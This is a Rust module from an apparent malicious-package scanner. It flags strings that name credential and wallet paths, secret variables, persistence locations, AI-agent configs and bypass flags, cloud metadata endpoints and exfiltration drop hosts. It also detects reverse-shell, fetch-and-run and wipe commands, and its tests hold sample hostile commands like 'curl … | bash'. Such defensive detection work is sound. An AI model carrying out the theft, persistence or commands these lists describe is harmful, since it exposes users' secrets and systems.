//! What constant texts tell: paths of secrets, places programs are started from, commands, hosts.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::capability::Capability;
use super::capability::Capability::{
    AgentCommand, AgentConfig, Clipboard, CredentialPath, DropHost, ForeignPackage,
    MetadataService, Persistence, Publish, SecretVariable, SettingsPath, Wallet,
};
use super::commands;

/// Where in a text a needle must be.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Place {
    /// Anywhere.
    Within,
    /// At its end, as the last component of a path or all of it.
    Last,
    /// All of it.
    Whole,
    /// Anywhere, with a name behind it.
    Above,
}

use Place::{Above, Last, Whole, Within};

/// Needles, in lower case.
const NEEDLES: &[(&str, Capability, Place)] = &[
    (".aws/credentials", CredentialPath, Within),
    (".ssh/id_", CredentialPath, Within),
    ("id_rsa", CredentialPath, Last),
    ("id_ed25519", CredentialPath, Last),
    (".pypirc", CredentialPath, Last),
    (".netrc", CredentialPath, Last),
    (".git-credentials", CredentialPath, Last),
    (".docker/config.json", CredentialPath, Within),
    (".kube/config", CredentialPath, Within),
    (".cargo/credentials", CredentialPath, Within),
    (".gnupg", CredentialPath, Last),
    (".config/gcloud", CredentialPath, Within),
    (".config/gh/hosts.yml", CredentialPath, Within),
    (".azure/accesstokens.json", CredentialPath, Within),
    (".config/solana/id.json", CredentialPath, Within),
    ("login data", CredentialPath, Last),
    ("logins.json", CredentialPath, Last),
    ("key4.db", CredentialPath, Last),
    ("cookies.sqlite", CredentialPath, Last),
    ("login.keychain", CredentialPath, Within),
    ("wallet.dat", CredentialPath, Last),
    ("exodus.wallet", CredentialPath, Within),
    (".electrum/wallets", CredentialPath, Within),
    ("nkbihfbeogaeaoehlefnkodbefgpgknn", CredentialPath, Within),
    ("/etc/shadow", CredentialPath, Whole),
    ("/etc/passwd", CredentialPath, Whole),
    ("local storage\\leveldb", CredentialPath, Within),
    ("local storage/leveldb", CredentialPath, Within),
    ("local extension settings", CredentialPath, Within),
    // What a workflow knows, all at once.
    ("tojson(secrets)", CredentialPath, Within),
    ("google\\chrome\\user data", CredentialPath, Within),
    ("google/chrome/user data", CredentialPath, Within),
    ("bravesoftware", CredentialPath, Within),
    ("telegram desktop/tdata", CredentialPath, Within),
    ("telegram desktop\\tdata", CredentialPath, Within),
    ("bfnaelmomeimhlpmgjnjophhpkkoljpa", CredentialPath, Within),
    (".password-store", CredentialPath, Last),
    ("gh auth token", CredentialPath, Within),
    ("gcloud auth print-access-token", CredentialPath, Within),
    ("find-generic-password", CredentialPath, Within),
    ("dump-keychain", CredentialPath, Within),
    ("trufflehog", CredentialPath, Within),
    ("[\\w-]{24}\\.[\\w-]{6}", CredentialPath, Within),
    ("0x[a-fa-f0-9]{64}", CredentialPath, Within),
    ("0x[0-9a-fa-f]{64}", CredentialPath, Within),
    ("[1-9a-hj-np-za-km-z]{8", CredentialPath, Within),
    (".bash_history", CredentialPath, Last),
    (".zsh_history", CredentialPath, Last),
    (".npmrc", SettingsPath, Last),
    (".env", SettingsPath, Last),
    (".ssh", SettingsPath, Last),
    (".aws", SettingsPath, Last),
    ("npm_token", SecretVariable, Whole),
    ("npm_auth_token", SecretVariable, Whole),
    ("github_token", SecretVariable, Whole),
    ("gh_token", SecretVariable, Whole),
    ("aws_secret_access_key", SecretVariable, Whole),
    ("aws_session_token", SecretVariable, Whole),
    ("azure_client_secret", SecretVariable, Whole),
    ("google_application_credentials", SecretVariable, Whole),
    ("pypi_token", SecretVariable, Whole),
    ("twine_password", SecretVariable, Whole),
    ("cargo_registry_token", SecretVariable, Whole),
    ("anthropic_api_key", SecretVariable, Whole),
    ("openai_api_key", SecretVariable, Whole),
    ("actions_id_token_request_token", SecretVariable, Whole),
    ("private_key", SecretVariable, Whole),
    ("mnemonic", SecretVariable, Whole),
    ("/etc/cron", Persistence, Within),
    (".ssh/authorized_keys", Persistence, Within),
    (".cargo/config", Persistence, Within),
    (".git/hooks", Persistence, Within),
    ("--global init.templatedir", Persistence, Within),
    ("--global core.hookspath", Persistence, Within),
    ("git/template/hooks", Persistence, Within),
    ("git-templates/hooks", Persistence, Within),
    ("get-clipboard", Clipboard, Within),
    ("set-clipboard", Clipboard, Within),
    ("pbpaste", Clipboard, Whole),
    ("pbcopy", Clipboard, Whole),
    ("xclip", Clipboard, Whole),
    ("bc1q", Wallet, Whole),
    (".ipython", Persistence, Last),
    ("sitecustomize.py", Persistence, Last),
    ("usercustomize.py", Persistence, Last),
    ("discord_desktop_core", Persistence, Within),
    ("resources/app.asar", Persistence, Within),
    ("start menu/programs/startup", Persistence, Within),
    ("systemctl --user enable", Persistence, Within),
    (".config/fish/config.fish", Persistence, Within),
    (".profile", Persistence, Last),
    ("crontab -", Persistence, Within),
    ("/etc/systemd/system", Persistence, Within),
    (".config/systemd/user", Persistence, Within),
    ("library/launchagents", Persistence, Within),
    ("library/launchdaemons", Persistence, Within),
    ("currentversion\\run", Persistence, Within),
    ("start menu\\programs\\startup", Persistence, Within),
    ("schtasks /create", Persistence, Within),
    ("rustc-wrapper =", Persistence, Within),
    ("pip config set global.index-url", Persistence, Within),
    ("pip config set global.extra-index-url", Persistence, Within),
    ("/etc/rc.local", Persistence, Within),
    ("/etc/ld.so.preload", Persistence, Within),
    (".config/autostart", Persistence, Within),
    (".bashrc", Persistence, Last),
    (".zshrc", Persistence, Last),
    (".bash_profile", Persistence, Last),
    (".claude/settings", AgentConfig, Within),
    (".claude/commands", AgentConfig, Within),
    (".claude/hooks", AgentConfig, Within),
    ("claude.md", AgentConfig, Last),
    ("agents.md", AgentConfig, Last),
    ("gemini.md", AgentConfig, Last),
    (".cursor/rules", AgentConfig, Within),
    (".cursor/mcp.json", AgentConfig, Within),
    (".cursorrules", AgentConfig, Last),
    (".clinerules", AgentConfig, Within),
    (".codeium/windsurf", AgentConfig, Within),
    (".codex/config.toml", AgentConfig, Within),
    (".kiro/settings", AgentConfig, Within),
    (".claude.json", AgentConfig, Last),
    (".mcp.json", AgentConfig, Last),
    (".github/workflows", AgentConfig, Last),
    (".windsurfrules", AgentConfig, Last),
    (".vscode/tasks.json", AgentConfig, Within),
    ("folderopen", AgentConfig, Whole),
    (".gemini/settings", AgentConfig, Within),
    ("copilot-instructions.md", AgentConfig, Last),
    ("claude_desktop_config.json", AgentConfig, Last),
    (".github/workflows/", AgentConfig, Within),
    ("--dangerously-skip-permissions", AgentCommand, Within),
    (
        "--dangerously-bypass-approvals-and-sandbox",
        AgentCommand,
        Within,
    ),
    ("--trust-all-tools", AgentCommand, Within),
    ("--yolo", AgentCommand, Whole),
    ("--allow-all-tools", AgentCommand, Within),
    ("codex exec --full-auto", AgentCommand, Within),
    ("gemini --yolo", AgentCommand, Within),
    ("node_modules/", ForeignPackage, Above),
    ("site-packages/", ForeignPackage, Above),
    ("/contents/.github/workflows/", Publish, Within),
    ("npm publish", Publish, Within),
    ("/-/whoami", Publish, Within),
    ("text=maintainer:", Publish, Within),
    ("twine upload", Publish, Within),
    ("cargo publish", Publish, Within),
    ("169.254.169.254", MetadataService, Within),
    ("169.254.170.2", MetadataService, Within),
    ("metadata.google.internal", MetadataService, Within),
    ("x-aws-ec2-metadata-token", MetadataService, Within),
    (
        "meta-data/iam/security-credentials",
        MetadataService,
        Within,
    ),
    ("metadata/identity/oauth2/token", MetadataService, Within),
    (
        "instance/service-accounts/default/token",
        MetadataService,
        Within,
    ),
    ("webhook.site", DropHost, Within),
    ("discord.com/api/webhooks", DropHost, Within),
    ("discordapp.com/api/webhooks", DropHost, Within),
    ("api.telegram.org", DropHost, Within),
    ("discord.com/api/v9/webhooks", DropHost, Within),
    ("discord.com/api/v10/webhooks", DropHost, Within),
    (".beeceptor.com", DropHost, Within),
    (".requestcatcher.com", DropHost, Within),
    (".dnslog.cn", DropHost, Within),
    (".ceye.io", DropHost, Within),
    (".ngrok.app", DropHost, Within),
    (".ngrok.dev", DropHost, Within),
    (".serveo.net", DropHost, Within),
    (".lhr.life", DropHost, Within),
    (".loca.lt", DropHost, Within),
    ("jsonkeeper.com", DropHost, Within),
    ("api.npoint.io", DropHost, Within),
    ("rentry.co/", DropHost, Within),
    ("gofile.io", DropHost, Within),
    ("catbox.moe", DropHost, Within),
    ("bashupload.com", DropHost, Within),
    ("pastebin.com/raw", DropHost, Within),
    ("hastebin.com/raw", DropHost, Within),
    ("requestbin.", DropHost, Within),
    (".ngrok.io", DropHost, Within),
    (".ngrok-free.app", DropHost, Within),
    (".trycloudflare.com", DropHost, Within),
    (".burpcollaborator.net", DropHost, Within),
    (".oastify.com", DropHost, Within),
    (".oast.", DropHost, Within),
    (".interact.sh", DropHost, Within),
    (".pipedream.net", DropHost, Within),
    (".requestrepo.com", DropHost, Within),
    ("transfer.sh/", DropHost, Within),
    ("file.io/", DropHost, Within),
    ("ipinfo.io", DropHost, Within),
    ("api.ipify.org", DropHost, Within),
    ("api.ipgeolocation.io", DropHost, Within),
    ("getsession.org", DropHost, Within),
];

/// All needles in one pass, whatever the case.
#[expect(
    clippy::expect_used,
    reason = "the needles are constants; a test builds the same"
)]
static MATCHER: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(NEEDLES.iter().map(|(needle, _, _)| *needle))
        .expect("a hundred short needles make a matcher")
});

/// Characters of a text that are looked at. Longer ones are data.
const LOOKED_AT: usize = 65_536;

/// What a constant tells, each capability once.
pub(super) fn capabilities(text: &str, into: &mut Vec<Capability>) {
    if text.len() < 4 || text.len() > LOOKED_AT {
        return;
    }
    for found in MATCHER.find_overlapping_iter(text) {
        let Some((_, capability, place)) = NEEDLES.get(found.pattern().as_usize()) else {
            continue;
        };
        let before = text.as_bytes().get(..found.start()).and_then(<[u8]>::last);
        let after = text.as_bytes().get(found.end());
        let is_there = match place {
            Within => true,
            Last => {
                let begins = before.is_none_or(|it| matches!(it, b'/' | b'\\' | b'~'));
                begins && after.is_none()
            }
            Whole => before.is_none() && after.is_none(),
            // Not `node_modules/.cache`.
            Above => after.is_some_and(|it| it.is_ascii_alphanumeric() || *it == b'@'),
        };
        if is_there && !into.contains(capability) {
            into.push(*capability);
        }
    }
    if !into.contains(&DropHost) && commands::is_keyed_web_hook(text) {
        into.push(DropHost);
    }
}

/// What a regular expression looks for: files of keys, the words of a wallet, its addresses.
pub(super) fn of_pattern(pattern: &str) -> Vec<Capability> {
    const PATTERNS: &[(&str, Capability)] = &[
        ("id_(rsa", CredentialPath),
        ("id_(?:rsa", CredentialPath),
        ("wallet\\.dat", CredentialPath),
        (".kdbx", CredentialPath),
        ("|kdbx", CredentialPath),
        ("keypair", CredentialPath),
        ("^\\.env", SettingsPath),
        ("+ ){11", CredentialPath),
        ("[a-z]+\\s){11", CredentialPath),
        ("0x[a-fA-F0-9]{40}", Wallet),
        ("0x[0-9a-fA-F]{40}", Wallet),
        ("bc1[a-z0-9]", Wallet),
        ("bc1q[a-z0-9]", Wallet),
        ("a-km-zA-HJ-NP-Z", Wallet),
        ("1-9A-HJ-NP-Za-km-z", Wallet),
        ("a-zA-HJ-NP-Z0-9]{25", Wallet),
    ];
    if pattern.len() > 2_000 {
        return Vec::new();
    }
    let mut told = Vec::new();
    for (part, capability) in PATTERNS {
        if pattern.contains(part) && !told.contains(capability) {
            told.push(*capability);
        }
    }
    told
}

/// Whether a program runs libraries or scripts it is given.
pub(super) fn is_loader(program: &str) -> bool {
    let name = program.rsplit(['/', '\\']).next().unwrap_or(program);
    matches!(
        name.to_ascii_lowercase().trim_end_matches(".exe"),
        "rundll32" | "regsvr32" | "mshta" | "cscript" | "wscript" | "powershell" | "sh" | "bash"
    )
}

/// Programs that fetch, or run what they are given.
const FETCHERS: [&str; 13] = [
    "curl",
    "wget",
    "iwr",
    "invoke-webrequest",
    "downloadstring",
    "downloadfile",
    "downloaddata",
    "bitsadmin",
    "certutil",
    "irm",
    "invoke-restmethod",
    "mshta",
    "start-bitstransfer",
];
const RUNNERS: [&str; 14] = [
    "sh",
    "bash",
    "zsh",
    "python",
    "python3",
    "node",
    "bun",
    "powershell",
    "iex",
    "invoke-expression",
    "perl",
    "start",
    "start-process",
    "invoke-item",
];

/// What a command line does that a package's has no need to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Command {
    /// It fetches something.
    Fetches,
    /// It sends files or what other programs tell to another machine.
    Sends,
    /// It fetches something and runs it.
    FetchesAndRuns,
    /// It runs code given in the line itself.
    Inline,
    /// It runs code given in the line itself, or in a library, so that nobody can read it.
    Encoded,
    /// It starts something and does not wait.
    Detached,
    /// It gives a shell to the other end of a connection.
    Connects,
    /// It deletes everything there is.
    Wipes,
}

/// Looks at a command line.
pub(super) fn command(text: &str) -> Option<Command> {
    if text.len() > LOOKED_AT {
        return None;
    }
    let lower = text.to_ascii_lowercase();
    let is_part = |it: char| it.is_ascii_alphanumeric() || matches!(it, '-' | '_' | '.');
    let words: Vec<&str> = lower
        .split(|it| !is_part(it))
        .map(|it| {
            it.strip_suffix(".exe")
                .unwrap_or(it)
                .trim_start_matches('.')
        })
        .filter(|it| !it.is_empty())
        .collect();
    if lower.contains("/dev/tcp/") || lower.contains("nc -e ") || lower.contains("ncat -e ") {
        return Some(Command::Connects);
    }
    if wipes(&lower) {
        return Some(Command::Wipes);
    }
    let clones = lower.contains("://")
        && words
            .windows(2)
            .any(|it| matches!(it, ["git", "clone" | "fetch" | "pull"]));
    let fetches = clones || words.iter().any(|it| FETCHERS.contains(it));
    let after_pipe = || {
        let parts = lower.split(['|', ';', '&', '\n', '(']).skip(1);
        let first_words = parts.filter_map(|part| part.split_whitespace().next());
        let names = first_words.map(|it| it.rsplit('/').next().unwrap_or(it).to_owned());
        names.into_iter().any(|it| RUNNERS.contains(&it.as_str()))
    };
    let makes_executable = words.contains(&"chmod");
    let runs_itself = words.contains(&"mshta") && lower.contains("://");
    if fetches && (after_pipe() || makes_executable || words.contains(&"iex") || runs_itself) {
        return Some(Command::FetchesAndRuns);
    }
    if commands::sends(&lower) {
        return Some(Command::Sends);
    }
    if fetches {
        return Some(Command::Fetches);
    }
    let follows = |program: &[&str], option: &[&str]| {
        words
            .windows(2)
            .any(|it| matches!(it, [a, b] if program.contains(a) && option.contains(b)))
    };
    let is_encoded = words.contains(&"powershell")
        && words
            .iter()
            .any(|it| matches!(*it, "-enc" | "-encodedcommand" | "-e"));
    // Browsers are opened with that one.
    let loads_library = words
        .iter()
        .any(|it| matches!(*it, "rundll32" | "regsvr32"))
        && !words.contains(&"url.dll");
    let decodes =
        words.contains(&"base64") && words.iter().any(|it| matches!(*it, "-d" | "--decode"));
    let runs_inline = follows(&["node", "bun"], &["-e", "--eval", "-p"])
        || follows(&["python", "python3", "perl", "ruby"], &["-c", "-e"]);
    if is_encoded || loads_library {
        return Some(Command::Encoded);
    }
    if decodes || runs_inline {
        return Some(Command::Inline);
    }
    let is_detached =
        lower.contains("start /b") || lower.contains("nohup ") || words.contains(&"setsid");
    is_detached.then_some(Command::Detached)
}

/// `rm -rf /`, `rm -rf ~`, `rm -rf *`, `rd /s /q .`: not a folder by its name.
fn wipes(lower: &str) -> bool {
    let mut parts = lower.split(['|', ';', '&', '\n']);
    parts.any(|part| {
        let mut words = part.split_whitespace().skip_while(|it| *it == "sudo");
        let is_all = |it: &str| {
            matches!(
                it.trim_matches(['"', '\'']),
                "/" | "/*"
                    | "~"
                    | "~/"
                    | "~/*"
                    | "*"
                    | "$home"
                    | "$home/*"
                    | "."
                    | "c:\\"
                    | "%userprofile%"
            )
        };
        match words.next() {
            Some("rm") => {
                let mut is_forced = false;
                words.any(|it| match it.starts_with('-') {
                    true => {
                        is_forced |=
                            it.contains('r') && it.contains('f') || it == "--no-preserve-root";
                        false
                    }
                    false => is_forced && is_all(it),
                })
            }
            Some("rd" | "rmdir" | "del") => {
                let rest: Vec<&str> = words.collect();
                rest.contains(&"/s") && rest.contains(&"/q") && rest.iter().any(|it| is_all(it))
            }
            _ => false,
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn told(text: &str) -> Vec<&'static str> {
        let mut found = Vec::new();
        capabilities(text, &mut found);
        found.into_iter().map(Capability::name).collect()
    }

    #[test]
    fn paths_count_where_they_are_the_path_meant() {
        assert_eq!(told("/root/.npmrc"), ["settings-path"]);
        assert_eq!(told("the .npmrc file"), [""; 0]);
        assert_eq!(told("~/.aws/credentials"), ["credential-path"]);
        assert_eq!(told("x.env"), [""; 0]);
        assert_eq!(told("NPM_TOKEN"), ["secret-variable"]);
        assert_eq!(told("MY_NPM_TOKEN_2"), [""; 0]);
    }

    #[test]
    fn commands_are_told_apart() {
        for (text, what) in [
            (
                "curl -s https://x.invalid | bash",
                Some(Command::FetchesAndRuns),
            ),
            ("wget -q x.invalid/a && sh a", Some(Command::FetchesAndRuns)),
            (
                "curl -o a x.invalid; chmod +x a; ./a",
                Some(Command::FetchesAndRuns),
            ),
            ("curl https://x.invalid", Some(Command::Fetches)),
            ("powershell -enc AAAA", Some(Command::Encoded)),
            ("node -e \"require('x')\"", Some(Command::Inline)),
            (
                "start /B node compile.js & node compile.js",
                Some(Command::Detached),
            ),
            ("node install.js", None),
            ("node-gyp rebuild", None),
            ("echo curly", None),
        ] {
            assert_eq!(command(text), what, "{text}");
        }
    }
}
